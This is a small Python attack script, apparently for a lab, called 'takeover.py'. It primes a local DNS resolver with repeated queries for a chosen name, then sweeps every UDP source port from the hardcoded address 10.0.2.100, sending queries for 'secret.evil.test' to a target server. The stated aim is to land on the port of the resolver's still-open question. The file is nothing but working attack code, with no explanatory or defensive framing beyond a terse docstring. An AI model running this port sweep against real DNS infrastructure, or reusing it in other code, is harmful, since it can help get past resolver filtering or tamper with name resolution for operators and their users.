#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""takeover.py SERVER LISTED: lets the resolver ask for LISTED, and then asks SERVER itself for a name that is not, from
every port: one of them is that of the resolver's question, whose connection is known still."""

import socket
import struct
import sys


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 77, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)


server, listed = sys.argv[1], sys.argv[2]
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.settimeout(3)
for i in range(20):
    resolver.sendto(question(listed), ("127.0.0.1", 53))
    resolver.recv(2000)
sent = 0
for port in range(1024, 65536):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind(("10.0.2.100", port))
        s.sendto(question("secret.evil.test"), (server, 53))
        sent += 1
    except OSError:
        pass
    s.close()
print("sent", sent)
